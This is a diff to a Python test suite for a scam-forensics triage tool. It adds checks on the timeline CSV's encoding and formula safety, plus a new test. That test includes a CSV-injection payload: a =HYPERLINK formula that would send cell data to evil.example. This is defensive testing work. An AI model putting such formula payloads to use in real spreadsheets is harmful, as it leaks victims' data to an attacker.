@@ -205,9 +205,14 @@ def test_outputs_timesketch_csv_findings(triaged) -> None:
     assert all(datetime.fromisoformat(r["datetime"]).tzinfo is not None for r in rows)
     scam = next(r for r in rows if SCAM_URL in r["message"])
     assert "scam_page" in scam["tag"] and "scam_page" in scam["story_step"]
-    with (out / "timeline.csv").open(encoding="utf-8") as fh:
+    assert {type(r["source_line"]) for r in rows} <= {int, type(None)}  # one type per field (typed imports)
+    assert any(isinstance(r["source_line"], int) for r in rows)
+    raw = (out / "timeline.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw  # Excel on a Japanese PC
+    with (out / "timeline.csv").open(encoding="utf-8-sig", newline="") as fh:
         table = list(csv.DictReader(fh))
     assert [r["event_id"] for r in table] == [e.id for e in result.collected.events]
+    assert not any(v.startswith(("=", "@")) for r in table for v in r.values())
     doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
     assert doc["summary"]["sessions"] == 3 and doc["summary"]["first_contact"] == "2022-08-23T10:05:00+00:00"
     assert [s["remote_id"] for s in doc["sessions"]] == ["547911884", "442226597", "1660360496"]
@@ -399,3 +404,25 @@ def test_hostile_page_titles_are_escaped_in_the_report(tmp_path: Path) -> None:
     html = (result.out / "report.html").read_text(encoding="utf-8")
     assert "&lt;script&gt;alert(" in html  # the visit is in the report (during S01's window), as text
     assert "<script>" not in html and "<img src=x" not in html
+
+
+def test_timeline_csv_is_formula_safe(tmp_path) -> None:
+    """A page title from the victim's history lands in timeline.csv as text, never as a formula."""
+    from datetime import UTC
+
+    from scamscope.triage.report.timeline import write_csv, write_jsonl
+    from scamscope.triage.types import Event, Ref
+
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Windows Defender")'
+    events = [
+        Event(ts=datetime(2024, 2, 16, 14, 0, tzinfo=UTC), kind="browser.visit", message=hostile, timestamp_desc="Visit Time", ref=Ref("Chrome History", "C:/Users/v/History", 7)),
+        Event(ts=datetime(2024, 2, 16, 14, 1, tzinfo=UTC), kind="software.installed", message="@SUM(1+1)", timestamp_desc="Install Time", ref=Ref("SOFTWARE", "HKLM/Software")),
+    ]
+    write_csv(events, {}, tmp_path / "t.csv")
+    write_jsonl(events, {}, tmp_path / "t.jsonl")
+    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
+        table = list(csv.DictReader(fh))
+    assert table[0]["message"] == "'" + hostile and table[1]["message"] == "'@SUM(1+1)"
+    assert table[0]["source_line"] == "7" and table[1]["source_line"] == ""
+    rows = [json.loads(x) for x in (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert rows[0]["message"] == hostile and rows[0]["source_line"] == 7 and rows[1]["source_line"] is None
